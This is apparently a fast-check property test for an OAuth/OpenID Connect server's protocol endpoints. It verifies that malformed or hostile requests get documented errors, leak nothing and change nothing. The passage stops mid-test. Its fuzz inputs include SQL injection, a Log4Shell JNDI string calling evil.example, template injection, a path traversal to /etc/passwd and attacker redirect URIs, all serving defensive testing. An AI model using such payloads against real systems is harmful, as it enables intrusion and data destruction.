import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import http from 'node:http';
import fc from 'fast-check';
import * as client from 'openid-client';
import pg from 'pg';
import { PASSWORD, seedTenant, seedUser } from '../support/admin-api.js';
import { runCodeFlow } from '../support/code-flow.js';
import { seedClient, type SeededClient } from '../support/oauth-clients.js';
import { basicAuthorization, newPkcePair, postForm } from '../support/oauth-http.js';
import { type ListeningPlanes, startListeningPlanes } from '../support/test-planes.js';
import { createMigratedDatabase, type TestDatabase } from '../support/test-database.js';
import { UserAgent } from '../support/user-agent.js';

/**
 * SPEC §9 "Bad input" on the auth plane's protocol endpoints: authorize, token, introspect,
 * revoke and userinfo. fast-check generates requests that are wrong by construction
 * (malformed, oversized, wrongly typed, repeated or hostile parameters, wrong media types,
 * garbage credentials, garbage PKCE, unknown grants, request objects, invalid redirect URIs and
 * client ids, random tokens), and every answer must be:
 *
 * - never a 5xx, and never a token (no token field, no code in a redirect, no session cookie,
 *   and none of the live credentials the test holds anywhere in the answer);
 * - on token, introspect, revoke and userinfo: JSON `{"error", "error_description"}` with an
 *   RFC 6749 / 6750 / 7009 / 7662 code and a 4xx status, except the two answers the RFCs
 *   require for well-formed requests about unknown tokens: introspection 200 `{"active":false}`
 *   (RFC 7662 §2.2) and revocation 200 (RFC 7009 §2.2);
 * - on authorize: while the client or its redirect URI is not valid, an HTML error page
 *   (400, or 404 for an unknown issuer) and never a redirect; after that, a 302 to the
 *   registered redirect URI with `error`, the `state` sent and `iss` (SPEC §5.1, RFC 9207);
 *
 * and the grant tables (codes, access and refresh tokens, interactions, consents), sessions,
 * users and clients must be exactly as they were (a digest of each, before and after).
 */

const SLUG = 'acme';
const REDIRECT = 'http://127.0.0.1:9999/callback';
const WATCHED_TABLES = ['oauth_authorization_codes', 'oauth_access_tokens', 'oauth_refresh_tokens', 'oauth_interactions', 'oauth_consents', 'sessions', 'users', 'oauth_clients'];

type Endpoint = 'authorize' | 'token' | 'introspect' | 'revoke' | 'userinfo';
type BackChannel = Exclude<Endpoint, 'authorize'>;

/** The error codes each endpoint may answer with (plus `not_found` for an unknown issuer, this server's own). */
const ERROR_CODES: Readonly<Record<BackChannel, readonly string[]>> = {
  // RFC 6749 §5.2
  token: ['invalid_request', 'invalid_client', 'invalid_grant', 'unauthorized_client', 'unsupported_grant_type', 'invalid_scope', 'not_found'],
  // RFC 7662 §2.3 uses the RFC 6749 errors of client authentication and malformed requests
  introspect: ['invalid_request', 'invalid_client', 'not_found'],
  // RFC 7009 §2.2.1
  revoke: ['invalid_request', 'invalid_client', 'unsupported_token_type', 'not_found'],
  // RFC 6750 §3.1
  userinfo: ['invalid_request', 'invalid_token', 'insufficient_scope', 'not_found'],
};
const BACK_CHANNEL_STATUSES = [400, 401, 403, 404, 413, 415];

/** RFC 6749 §4.1.2.1, OIDC Core §3.1.2.6, RFC 9101 §6.1. */
const AUTHORIZE_ERROR_CODES = [
  'invalid_request', 'unauthorized_client', 'access_denied', 'unsupported_response_type', 'invalid_scope', 'server_error', 'temporarily_unavailable',
  'interaction_required', 'login_required', 'account_selection_required', 'consent_required', 'invalid_request_uri', 'invalid_request_object',
  'request_not_supported', 'request_uri_not_supported', 'registration_not_supported',
];

// ---------------------------------------------------------------------------------------------
// What a probe is and what it should get

type Expectation =
  /** The endpoint's JSON error, with one of these statuses and (when given) codes. */
  | { readonly kind: 'oauth-error'; readonly statuses: readonly number[]; readonly errors?: readonly string[] }
  /** RFC 7662: 200 and exactly `{"active": false}`. */
  | { readonly kind: 'inactive' }
  /** RFC 7009: 200 with an empty body, whatever the token was. */
  | { readonly kind: 'revocation-accepted' }
  /** An HTML error page, no redirect. */
  | { readonly kind: 'error-page'; readonly statuses: readonly number[] }
  /** A 302 to the registered redirect URI with `error`, this `state` (on the wire) and `iss`. */
  | { readonly kind: 'error-redirect'; readonly state: string | undefined }
  /** Either of the two, when which one is a matter of where the server notices the problem. */
  | { readonly kind: 'page-or-error-redirect'; readonly state: string | undefined }
  /**
   * Refused by Node's HTTP parser before there is a request to route (a URL over the header
   * limit): the plane's generic error with this status, and no redirect.
   */
  | { readonly kind: 'refused-before-routing'; readonly statuses: readonly number[] };

interface Probe {
  readonly endpoint: Endpoint;
  readonly method: 'GET' | 'POST';
  /** Path and already-encoded query. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: Buffer;
  /** What is wrong with it, for the report. */
  readonly what: string;
  readonly expected: Expectation;
}

interface Answer {
  readonly status: number;
  readonly headers: http.IncomingHttpHeaders;
  readonly text: string;
}

const oauthError = (statuses: readonly number[], errors?: readonly string[]): Expectation => ({ kind: 'oauth-error', statuses, ...(errors ? { errors } : {}) });
const INVALID_REQUEST = oauthError([400], ['invalid_request']);
const TOO_LARGE = oauthError([413], ['invalid_request']);
const INVALID_CLIENT = oauthError([401], ['invalid_client']);
const INVALID_TOKEN = oauthError([401], ['invalid_token']);
const INACTIVE: Expectation = { kind: 'inactive' };
const REVOCATION_ACCEPTED: Expectation = { kind: 'revocation-accepted' };
const PAGE_400: Expectation = { kind: 'error-page', statuses: [400] };

// ---------------------------------------------------------------------------------------------
// Encoding helpers

/** Percent-encodes every UTF-8 byte except RFC 3986 unreserved characters (lone surrogates travel as U+FFFD). */
function percentEncode(text: string): string {
  let encoded = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const character = String.fromCharCode(byte);
    encoded += /[A-Za-z0-9\-._~]/.test(character) ? character : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return encoded;
}

/** What a string becomes once sent as UTF-8 and decoded again (lone surrogates become U+FFFD). */
function onTheWire(text: string): string {
  return Buffer.from(text, 'utf8').toString('utf8');
}

type Pairs = readonly (readonly [string, string])[];

function encodePairs(pairs: Pairs): string {
  return pairs.map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`).join('&');
}

function withPair(pairs: Pairs, key: string, value: string | undefined): Pairs {
  const others = pairs.filter(([name]) => name !== key);
  return value === undefined ? others : [...others, [key, value]];
}

function clip(text: string, max: number): string {
  return text.length > max ? `${text.slice(0, max)}… (${text.length} chars)` : text;
}

function describeProbe(probe: Probe): string {
  const headers = Object.entries(probe.headers).map(([name, value]) => `${name}: ${clip(JSON.stringify(value), 100)}`).join(', ');
  const body = probe.body === undefined ? 'no body' : `${probe.body.length}-byte body ${clip(JSON.stringify(probe.body.toString('latin1')), 200)}`;
  return `${probe.method} ${clip(probe.path, 240)} [${headers}] ${body} (${probe.what}); expected ${JSON.stringify(probe.expected).slice(0, 200)}`;
}

function probe(parts: Probe): Probe {
  return Object.defineProperty({ ...parts }, fc.toStringMethod, { value: () => describeProbe(parts) });
}

// ---------------------------------------------------------------------------------------------
// Value generators

const ALPHANUMERIC = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'];
const BASE64URL = [...ALPHANUMERIC, '-', '_'];
const alnum = (minLength: number, maxLength: number) => fc.string({ unit: fc.constantFrom(...ALPHANUMERIC), minLength, maxLength });

/** NUL, other controls, bidi overrides, BOM, non-characters, lone surrogates, astral characters. */
const SPECIAL_CHARACTER = fc.constantFrom('\u0000', '\u0001', '\b', '\t', '\n', '\r', '\u001b', '\u007f', '\u0085', '\u00ad', '\u200b', '\u2028', '\u202e', '\ufeff', '\uffff', '\ud800', '\udfff', '\u{1f600}');
const HOSTILE_TEXT = fc.tuple(alnum(0, 8), SPECIAL_CHARACTER, fc.string({ unit: 'binary', maxLength: 8 })).map((parts) => parts.join(''));
const HOSTILE_TEXT_WITHOUT_NUL = HOSTILE_TEXT.filter((text) => !text.includes('\u0000'));
/** Text a parser might choke on: injection payloads, format strings, path tricks. */
const NASTY_STRINGS = fc.constantFrom(
  "' or 1=1 --", '"; drop table oauth_clients; --', '${jndi:ldap://evil.example/a}', '{{7*7}}', '%s%s%s%n', '../../../../etc/passwd', '<script>alert(1)</script>',
  '__proto__', 'constructor', '[object Object]', 'null', 'undefined', 'NaN', '-1', '0', '1e309', '%00', '%', '\\', '""', '[]', '{}',
);
const ANY_TEXT = fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }), HOSTILE_TEXT, NASTY_STRINGS);
const WELL_FORMED_RANDOM_TOKEN = fc.string({ unit: fc.constantFrom(...BASE64URL), minLength: 43, maxLength: 43 });
const RANDOM_UUID = fc.oneof(fc.uuid({ version: 4 }), fc.uuid({ version: 7 }));

/** A live token with one character changed: well-formed, and unknown. */
function mutated(live: string): fc.Arbitrary<string> {
  return fc
    .tuple(fc.nat({ max: live.length - 1 }), fc.constantFrom(...BASE64URL))
    .map(([index, character]) => `${live.slice(0, index)}${character}${live.slice(index + 1)}`)
    .filter((token) => token !== live);
}

/** Values that are not tokens this server issued (never a live one). */
function unknownTokens(live: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(WELL_FORMED_RANDOM_TOKEN, ANY_TEXT, alnum(44, 200), ...live.map(mutated));
}

/** 2 kB to 60 kB of a repeated unit that may be multi-byte or a control character. */
const LARGE_TEXT = fc
  .record({ unit: fc.oneof(alnum(1, 3), fc.string({ unit: 'binary', minLength: 1, maxLength: 3 })), length: fc.integer({ min: 2_000, max: 60_000 }) })
  .map(({ unit, length }) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length))
  .filter((text) => !text.includes('\u0000') && text.trim() !== '');

/** client_secret_basic for any text (percent-encoding also copes with lone surrogates). */
function basicOf(clientId: string, secret: string): string {
  return `Basic ${Buffer.from(`${percentEncode(clientId)}:${percentEncode(secret)}`).toString('base64')}`;
}

/** Authorization headers that authenticate nobody; Node can send any of these bytes. */
function garbageAuthorization(clientId: string): fc.Arbitrary<string> {
  const headerSafe = (text: string) => text.replace(/[^\t\x20-\x7e]/g, '?');
  return fc.oneof(
    fc.string({ maxLength: 60 }).map(headerSafe),
    fc.constantFrom('Basic', 'Basic ', 'Basic !!!', 'Basic ====', 'Bearer', 'Digest username="a"', 'Negotiate YII=', 'basic Og=='),
    fc.string({ maxLength: 60 }).map((text) => `Basic ${Buffer.from(text, 'utf8').toString('base64')}`),
    fc.tuple(ANY_TEXT, ANY_TEXT).map(([id, secret]) => basicOf(id, secret)),
    fc.tuple(RANDOM_UUID, alnum(1, 64)).map(([id, secret]) => basicOf(id, secret)),
    alnum(1, 64).map((secret) => basicOf(clientId, secret)),
    fc.string({ maxLength: 40 }).map((text) => `Basic ${Buffer.from(`${clientId}:${text}`, 'utf8').toString('base64')}`),
    fc.integer({ min: 4_000, max: 12_000 }).map((length) => `Basic ${'A'.repeat(length)}`),
  );
}

/** Code verifiers that are not the one of the live code: malformed (too short, too long, bad characters) or simply different. */
const GARBAGE_VERIFIER = fc.oneof(
  fc.string({ unit: fc.constantFrom(...BASE64URL, '.', '~'), minLength: 43, maxLength: 128 }),
  fc.string({ unit: fc.constantFrom(...BASE64URL), maxLength: 42 }),
  fc.string({ unit: fc.constantFrom(...BASE64URL), minLength: 129, maxLength: 300 }),
  fc.tuple(alnum(42, 42), fc.constantFrom('+', '/', '=', ' ', '%', '\u00e9')).map(([text, bad]) => `${text}${bad}`),
  HOSTILE_TEXT,
);

/** Redirect URIs that differ from the registered one (exact match is required: no normalisation). */
const WRONG_REDIRECT_URI = fc
  .oneof(
    fc.constantFrom(
      `${REDIRECT}/`, `${REDIRECT}?x=1`, `${REDIRECT}#frag`, `${REDIRECT}%20`, ` ${REDIRECT}`, REDIRECT.toUpperCase(), 'http://127.0.0.1:9999/Callback', 'http://127.0.0.1:9998/callback',
      'http://localhost:9999/callback', 'https://127.0.0.1:9999/callback', 'http://127.0.0.1:9999/callback/../evil', 'http://127.0.0.1:9999/%63allback', 'http://127.0.0.1:9999//callback',
      'http://evil.example/callback', 'https://evil.example/', '//evil.example/callback', 'http://127.0.0.1:9999@evil.example/callback', 'javascript:alert(1)', 'data:text/html,hi', '/callback', 'callback',
    ),
    fc.webUrl(),
    ANY_TEXT,
  )
  .filter((uri) => onTheWire(uri) !== REDIRECT);

// ---------------------------------------------------------------------------------------------

describe('bad input to the protocol endpoints: documented errors, never a 5xx or a token, nothing changed (SPEC §5, §9)', () => {
  let database: TestDatabase;
  let planes: ListeningPlanes;
  let inspector: pg.Client;
  let port: number;
  let issuer: string;
  let app: SeededClient;
  let poster: SeededClient;
  let spa: SeededClient;
  let foreignClient: SeededClient;
  /** Tokens and a code that are live: hostile requests must not spend, revoke or reveal them. */
  const live = { accessToken: '', refreshToken: '', idToken: '', code: '', verifier: '', serviceToken: '' };
  let secrets: string[];
  let baseline: Record<string, string>;

  async function tableDigests(): Promise<Record<string, string>> {
    const query = WATCHED_TABLES.map((table) => `select '${table}' as name, md5(coalesce(string_agg(t::text, ',' order by t::text), '')) as digest from "${table}" t`).join(' union all ');
    const { rows } = await inspector.query<{ name: string; digest: string }>(query);
    return Object.fromEntries(rows.map((row) => [row.name, row.digest]));
  }

  beforeAll(async () => {
    database = await createMigratedDatabase();
    planes = await startListeningPlanes(database.url);
    port = Number(new URL(planes.authOrigin).port);
    issuer = `${planes.authOrigin}/t/${SLUG}`;
    const tenant = await seedTenant(planes, SLUG);
    const user = await seedUser(planes, tenant, `ada@${SLUG}.example`, ['tenant_member']);
    app = await seedClient(planes, tenant.id, { redirectUris: [REDIRECT] });
    poster = await seedClient(planes, tenant.id, { authMethod: 'client_secret_post', redirectUris: [REDIRECT] });
    spa = await seedClient(planes, tenant.id, { type: 'public', redirectUris: ['http://127.0.0.1:9999/spa'] });
    const other = await seedTenant(planes, 'other-co');
    foreignClient = await seedClient(planes, other.id, { redirectUris: [REDIRECT] });

    // Live state for the hostile requests to leave alone: a session, consent, tokens, an unredeemed code.
    const rp = await client.discovery(new URL(issuer), app.clientId, undefined, client.ClientSecretBasic(app.clientSecret!), { execute: [client.allowInsecureRequests] });
    const agent = new UserAgent();
    const flow = await runCodeFlow(rp, agent, { email: user.email, password: PASSWORD }, { redirectUri: REDIRECT });
    const tokens = await client.authorizationCodeGrant(rp, flow.callback, { pkceCodeVerifier: flow.verifier, expectedNonce: flow.nonce, expectedState: flow.state });
    const pending = await runCodeFlow(rp, agent, null, { redirectUri: REDIRECT });
    const service = await client.clientCredentialsGrant(rp, { scope: 'api:read' });
    Object.assign(live, {
      accessToken: tokens.access_token,
      refreshToken: tokens.refresh_token!,
      idToken: tokens.id_token!,
      code: pending.callback.searchParams.get('code')!,
      verifier: pending.verifier,
      serviceToken: service.access_token,
    });
    secrets = [...Object.values(live).filter((value) => value !== live.verifier), app.clientSecret!, poster.clientSecret!];

    inspector = new pg.Client({ connectionString: database.url });
    await inspector.connect();
    baseline = await tableDigests();
  });

  afterAll(async () => {
    await inspector?.end();
    await planes?.close();
    await database?.drop();
  });

  // -------------------------------------------------------------------------------------------
  // Sending and judging

  function send(request: Probe): Promise<Answer> {
    return new Promise((resolve, reject) => {
      const headers: Record<string, string> = { ...request.headers };
      if (request.body) headers['content-length'] = String(request.body.length);
      const outgoing = http.request({ host: '127.0.0.1', port, method: request.method, path: request.path, headers, agent: false }, (incoming) => {
        const chunks: Buffer[] = [];
        incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
        incoming.on('end', () => resolve({ status: incoming.statusCode!, headers: incoming.headers, text: Buffer.concat(chunks).toString('utf8') }));
        incoming.on('error', reject);
      });
      // The server may answer (413) and close before an oversized body is fully written.
      outgoing.on('error', (error: NodeJS.ErrnoException) => (error.code === 'EPIPE' || error.code === 'ECONNRESET' ? undefined : reject(error)));
      outgoing.end(request.body);
    });
  }

  /** Everything wrong with an answer; empty when it is what the probe deserves. */
  function problemsWith(sent: Probe, answer: Answer): string[] {
    const problems: string[] = [];
    const contentType = String(answer.headers['content-type'] ?? '');
    const location = answer.headers.location;
    if (answer.status >= 500) problems.push(`a ${answer.status}`);
    problems.push(...leaks(answer));
    const expected = sent.expected;
    switch (expected.kind) {
      case 'oauth-error':
        problems.push(...oauthErrorProblems(sent.endpoint as BackChannel, sent, answer, expected.statuses, expected.errors));
        break;
      case 'inactive':
        if (answer.status !== 200 || answer.text !== '{"active":false}') problems.push(`expected 200 {"active":false}, got ${answer.status} ${clip(answer.text, 200)}`);
        if (!contentType.startsWith('application/json')) problems.push(`Content-Type ${contentType}`);
        break;
      case 'revocation-accepted':
        if (answer.status !== 200 || answer.text !== '') problems.push(`expected 200 with no body, got ${answer.status} ${clip(answer.text, 200)}`);
        break;
      case 'error-page':
        problems.push(...errorPageProblems(answer, expected.statuses));
        break;
      case 'error-redirect':
        problems.push(...errorRedirectProblems(answer, expected.state));
        break;
      case 'page-or-error-redirect':
        problems.push(...(location === undefined ? errorPageProblems(answer, [400]) : errorRedirectProblems(answer, expected.state)));
        break;
      case 'refused-before-routing':
        if (!expected.statuses.includes(answer.status)) problems.push(`status ${answer.status}, expected ${expected.statuses.join(' or ')}`);
        if (location !== undefined) problems.push(`a redirect to ${clip(location, 200)}`);
        break;
    }
    return problems;
  }

  /** Any token, code, session or secret in the answer. */
  function leaks(answer: Answer): string[] {
    const problems: string[] = [];
    const location = answer.headers.location ?? '';
    if (/"(access_token|refresh_token|id_token)"\s*:/.test(answer.text)) problems.push('a token field in the body');
    if (/[?&#]code=/.test(location)) problems.push('an authorization code in the redirect');
    if ((answer.headers['set-cookie'] ?? []).some((cookie) => /opentrusty_session=[^;]/.test(cookie))) problems.push('a session cookie');
    const revealed = secrets.filter((secret) => answer.text.includes(secret) || location.includes(secret));
    if (revealed.length > 0) problems.push(`${revealed.length} live credential(s) echoed in the answer`);
    return problems;
  }

  function oauthErrorProblems(endpoint: BackChannel, sent: Probe, answer: Answer, statuses: readonly number[], errors: readonly string[] | undefined): string[] {
    const problems: string[] = [];
    if (!statuses.includes(answer.status)) problems.push(`status ${answer.status}, expected ${statuses.join(' or ')}`);
    if (!BACK_CHANNEL_STATUSES.includes(answer.status)) problems.push(`status ${answer.status} is not one of the documented ${BACK_CHANNEL_STATUSES.join(', ')}`);
    const contentType = String(answer.headers['content-type'] ?? '');
    if (!contentType.startsWith('application/json')) problems.push(`Content-Type ${contentType || 'missing'}, expected application/json`);
    if (answer.headers['cache-control'] !== 'no-store') problems.push(`Cache-Control ${String(answer.headers['cache-control'])}`);
    let body: unknown;
    try {
      body = JSON.parse(answer.text);
    } catch {
      return [...problems, `the body is not JSON: ${clip(answer.text, 200)}`];
    }
    if (typeof body !== 'object' || body === null || Array.isArray(body)) return [...problems, 'the body is not a JSON object'];
    const { error, error_description: description, ...rest } = body as Record<string, unknown>;
    if (typeof error !== 'string' || !ERROR_CODES[endpoint].includes(error)) problems.push(`error ${JSON.stringify(error)} is not an error code of ${endpoint}`);
    else if (errors && !errors.includes(error)) problems.push(`error ${error}, expected ${errors.join(' or ')}`);
    if (typeof description !== 'string' || description === '') problems.push('error_description is missing');
    if (Object.keys(rest).length > 0) problems.push(`unexpected members ${Object.keys(rest).join(', ')}`);
    if (/\n\s+at |node_modules|\.ts:\d+|\bselect\b.*\bfrom\b/i.test(answer.text) || answer.text.includes(process.cwd())) problems.push('internals in the body');
    const challenge = String(answer.headers['www-authenticate'] ?? '');
    if (answer.status === 401 && endpoint === 'userinfo' && !/^Bearer\b/.test(challenge)) problems.push(`401 without a Bearer WWW-Authenticate (${challenge || 'none'})`);
    if (answer.status === 401 && endpoint !== 'userinfo' && !/^Basic\b/.test(challenge)) {
      problems.push('401 without a Basic WWW-Authenticate (RFC 6749 §5.2, RFC 9110 §15.5.2)');
    }
    return problems;
  }

  function errorPageProblems(answer: Answer, statuses: readonly number[]): string[] {
    const problems: string[] = [];
    if (!statuses.includes(answer.status)) problems.push(`status ${answer.status}, expected an error page with ${statuses.join(' or ')}`);
    if (answer.headers.location !== undefined) problems.push(`a redirect to ${clip(answer.headers.location, 200)}`);
    if (!String(answer.headers['content-type'] ?? '').startsWith('text/html')) problems.push(`Content-Type ${String(answer.headers['content-type'])}, expected an HTML page: ${clip(answer.text, 200)}`);
    else if (!answer.text.startsWith('<!doctype html>')) problems.push('not a complete HTML page');
    return problems;
  }

  function errorRedirectProblems(answer: Answer, state: string | undefined): string[] {
    const location = answer.headers.location;
    if (answer.status !== 302 || location === undefined) return [`expected a 302 error redirect, got ${answer.status} ${clip(answer.text, 200)}`];
    if (!location.startsWith(`${REDIRECT}?`)) return [`a redirect to ${clip(location, 200)}, not to the registered redirect URI`];
    const parameters = new URL(location).searchParams;
    const problems: string[] = [];
    const error = parameters.get('error');
    if (error === null || !AUTHORIZE_ERROR_CODES.includes(error)) problems.push(`error ${JSON.stringify(error)} is not an authorization error code`);
    if (parameters.get('iss') !== issuer) problems.push(`iss ${JSON.stringify(parameters.get('iss'))}, expected ${issuer}`);
    if (parameters.get('state') !== (state === undefined ? null : onTheWire(state))) problems.push(`state ${clip(JSON.stringify(parameters.get('state')), 80)}, expected ${clip(JSON.stringify(state), 80)}`);
    return problems;
  }

  /** Runs a property over the probes; each answer is judged and the watched tables compared. */
  async function check(probes: fc.Arbitrary<Probe>, numRuns: number): Promise<void> {
    const property = fc.asyncProperty(probes, async (sent) => {
      const before = await tableDigests();
      const answer = await send(sent);
      const after = await tableDigests();
      const changed = WATCHED_TABLES.filter((table) => before[table] !== after[table]);
      const problems = [...problemsWith(sent, answer), ...(changed.length > 0 ? [`changed ${changed.join(', ')}`] : [])];
      if (problems.length > 0) throw new Error(`${problems.join('; ')}\n  answered ${answer.status} ${clip(answer.text, 300)}${answer.headers.location ? ` -> ${clip(answer.headers.location, 200)}` : ''}`);
    });
    await fc.assert(property, { numRuns, reporter: reportReadably });
  }

  // -------------------------------------------------------------------------------------------
  // Building probes

  const appBasic = () => basicAuthorization(app.clientId, app.clientSecret!);
  const FORM = 'application/x-www-form-urlencoded';

  function formProbe(endpoint: BackChannel, pairs: Pairs | string, what: string, expected: Expectation, headers: Record<string, string> = { authorization: appBasic() }): Probe {
    const body = typeof pairs === 'string' ? pairs : encodePairs(pairs);
    return probe({ endpoint, method: 'POST', path: `/t/${SLUG}/${endpoint}`, headers: { 'content-type': FORM, ...headers }, body: Buffer.from(body, 'utf8'), what, expected });
  }

  /**
   * For each back-channel endpoint: a well-formed request from a legitimate caller, the
   * parameter that carries its meaning, and what that request gets when only that parameter is
   * made unusable (`value` is what was put there instead). Token and revocation requests are
   * built so that, left intact, they WOULD change the database: only the bad input stops them.
   */
  interface Baseline {
    readonly endpoint: BackChannel;
    readonly pairs: Pairs;
    readonly key: string;
    readonly whenSpoilt: (value: string) => Expectation;
    /** What the endpoint answers when the parameters are not read at all (wrong media type). */
    readonly unread: Expectation;
  }

  /** NUL is refused as a malformed request; an empty value counts as absent (RFC 6749 §3.1). */
  function spoilt(value: string, otherwise: Expectation): Expectation {
    return value.includes('\u0000') || value === '' ? INVALID_REQUEST : otherwise;
  }

  const baselines = (): Baseline[] => [
    {
      endpoint: 'token',
      pairs: [['grant_type', 'client_credentials'], ['scope', 'api:read']],
      key: 'grant_type',
      whenSpoilt: (value) => spoilt(value, oauthError([400], ['unsupported_grant_type'])),
      unread: INVALID_REQUEST,
    },
    {
      endpoint: 'token',
      pairs: [['grant_type', 'client_credentials'], ['scope', 'api:read']],
      key: 'scope',
      whenSpoilt: (value) => (value.includes('\u0000') ? INVALID_REQUEST : oauthError([400], ['invalid_scope'])),
      unread: INVALID_REQUEST,
    },
    {
      endpoint: 'token',
      pairs: [['grant_type', 'refresh_token'], ['refresh_token', live.refreshToken]],
      key: 'refresh_token',
      whenSpoilt: (value) => spoilt(value, oauthError([400], ['invalid_grant'])),
      unread: INVALID_REQUEST,
    },
    { endpoint: 'introspect', pairs: [['token', live.accessToken]], key: 'token', whenSpoilt: (value) => spoilt(value, INACTIVE), unread: INVALID_REQUEST },
    { endpoint: 'revoke', pairs: [['token', live.refreshToken]], key: 'token', whenSpoilt: (value) => spoilt(value, REVOCATION_ACCEPTED), unread: INVALID_REQUEST },
    { endpoint: 'userinfo', pairs: [['access_token', live.accessToken]], key: 'access_token', whenSpoilt: (value) => (value === '' ? INVALID_TOKEN : spoilt(value, INVALID_TOKEN)), unread: INVALID_TOKEN },
  ];

  /** Headers of a baseline request: client authentication, except at UserInfo where the token is in the body. */
  const authOf = (baseline: Baseline): Record<string, string> => (baseline.endpoint === 'userinfo' ? {} : { authorization: appBasic() });

  const baselineArbitrary = () => fc.constantFrom(...baselines()).map((baseline) => Object.defineProperty({ ...baseline }, fc.toStringMethod, { value: () => `${baseline.endpoint}:${baseline.key}` }));

  function authorizeProbe(method: 'GET' | 'POST', pairs: Pairs, what: string, expected: Expectation, slug = SLUG): Probe {
    const encoded = encodePairs(pairs);
    return method === 'GET'
      ? probe({ endpoint: 'authorize', method, path: `/t/${slug}/authorize?${encoded}`, headers: {}, what, expected })
      : probe({ endpoint: 'authorize', method, path: `/t/${slug}/authorize`, headers: { 'content-type': FORM }, body: Buffer.from(encoded, 'utf8'), what, expected });
  }

  const pkce = newPkcePair();
  /** A complete, valid authorization request of `app`: on its own it would start a sign-in (and store an interaction). */
  const validAuthorization = (state: string | undefined): Pairs => [
    ['response_type', 'code'],
    ['client_id', app.clientId],
    ['redirect_uri', REDIRECT],
    ['scope', 'openid profile'],
    ['code_challenge', pkce.challenge],
    ['code_challenge_method', 'S256'],
    ...(state === undefined ? [] : [['state', state] as const]),
  ];

  const STATE = fc.option(fc.oneof(alnum(1, 40), HOSTILE_TEXT_WITHOUT_NUL, NASTY_STRINGS), { nil: undefined });
  const METHOD = fc.constantFrom<'GET' | 'POST'>('GET', 'POST');

  /** One element that makes a request with a valid client and redirect URI invalid, as [key, value or undefined to remove, what]. */
  const INVALID_AFTER_REDIRECT_CHECK: fc.Arbitrary<readonly [string, string | undefined, string]> = fc.oneof(
    fc.constantFrom<readonly [string, string | undefined, string]>(
      ['response_type', undefined, 'no response_type'],
      ['code_challenge', undefined, 'no PKCE'],
      ['code_challenge_method', undefined, 'no code_challenge_method (plain)'],
      ['code_challenge_method', 'plain', 'PKCE plain'],
      ['code_challenge_method', 's256', 'PKCE method in lower case'],
      ['scope', undefined, 'no scope'],
      ['prompt', 'none login', 'prompt=none with login'],
      ['prompt', 'none', 'prompt=none without a session'],
      ['response_mode', 'fragment', 'response_mode=fragment'],
      ['response_mode', 'form_post', 'response_mode=form_post'],
      ['request_uri', 'https://evil.example/request.jwt', 'a request_uri'],
      ['request_uri', 'urn:ietf:params:oauth:request_uri:abc', 'a pushed request_uri'],
    ),
    fc.constantFrom('token', 'id_token', 'code id_token', 'code token', 'none', 'CODE', 'code ').map((value) => ['response_type', value, `response_type=${value}`] as const),
    fc.oneof(ANY_TEXT, alnum(42, 42), alnum(44, 100)).filter((value) => value !== '' && !value.includes('\u0000')).map((value) => ['code_challenge', value, 'a malformed code_challenge'] as const),
    alnum(1, 20).map((value) => ['code_challenge_method', value, 'an unknown code_challenge_method'] as const),
    fc.oneof(alnum(1, 20).map((scope) => `openid x-${scope}`), HOSTILE_TEXT_WITHOUT_NUL.map((scope) => `openid ${scope}`)).map((value) => ['scope', value, 'a scope the client may not ask for'] as const),
    fc.tuple(alnum(10, 40), alnum(10, 200)).map(([header, payload]) => ['request', `eyJ${header}.${payload}.sig`, 'a request object'] as const),
    fc.constantFrom('-1', 'abc', '1e3', '1.5', '9999999999', ' 1').map((value) => ['max_age', value, `max_age=${value}`] as const),
    fc.integer({ min: 513, max: 3_000 }).map((length) => ['nonce', 'n'.repeat(length), 'a nonce over 512 characters'] as const),
    fc.integer({ min: 321, max: 3_000 }).map((length) => ['login_hint', `${'a'.repeat(length)}@x.example`, 'a login_hint over 320 characters'] as const),
  );

  // -------------------------------------------------------------------------------------------

  it('starts from live state that a bad request could damage', async () => {
    expect(Object.keys(baseline).sort()).toEqual([...WATCHED_TABLES].sort());
    const codes = await inspector.query(`select count(*)::int as n from oauth_authorization_codes where consumed_at is null`);
    expect(codes.rows[0].n).toBe(1);
    const introspected = await postForm(`${issuer}/introspect`, { token: live.refreshToken }, { authorization: appBasic() });
    expect(JSON.parse(introspected.text)).toMatchObject({ active: true });
  });

  describe('token, introspection, revocation and UserInfo', () => {
    it('garbage client authentication: 401 invalid_client, with WWW-Authenticate when the Authorization header was used', async () => {
      const viaHeader = fc.tuple(fc.constantFrom<BackChannel>('token', 'introspect', 'revoke'), garbageAuthorization(app.clientId)).map(([endpoint, authorization]) => {
        const pairs: Pairs = endpoint === 'token' ? [['grant_type', 'client_credentials']] : [['token', live.refreshToken]];
        return formProbe(endpoint, pairs, 'garbage Authorization header', INVALID_CLIENT, { authorization });
      });
      const viaBody = fc
        .tuple(fc.constantFrom<BackChannel>('token', 'introspect', 'revoke'), fc.oneof(ANY_TEXT, RANDOM_UUID, fc.constant(poster.clientId), fc.constant(foreignClient.clientId)), fc.oneof(ANY_TEXT, alnum(43, 43)))
        .filter(([, id, secret]) => id !== '' && secret !== '' && !`${id}${secret}`.includes('\u0000'))
        .map(([endpoint, clientId, clientSecret]) => {
          const pairs: Pairs = endpoint === 'token' ? [['grant_type', 'client_credentials']] : [['token', live.refreshToken]];
          return formProbe(endpoint, [...pairs, ['client_id', clientId], ['client_secret', clientSecret]], 'garbage client_secret_post credentials', INVALID_CLIENT, {});
        });
      const publicAtIntrospection = fc.constant(formProbe('introspect', [['token', live.accessToken], ['client_id', spa.clientId]], 'a public client at introspection', INVALID_CLIENT, {}));
      await check(fc.oneof({ weight: 3, arbitrary: viaHeader }, { weight: 2, arbitrary: viaBody }, publicAtIntrospection), 60);
    });

    it('a repeated parameter: 400 invalid_request, even when both copies agree', async () => {
      const probes = fc.tuple(baselineArbitrary(), fc.nat(), fc.boolean(), ANY_TEXT).map(([baseline, pick, same, other]) => {
        const [key, value] = baseline.pairs[pick % baseline.pairs.length]!;
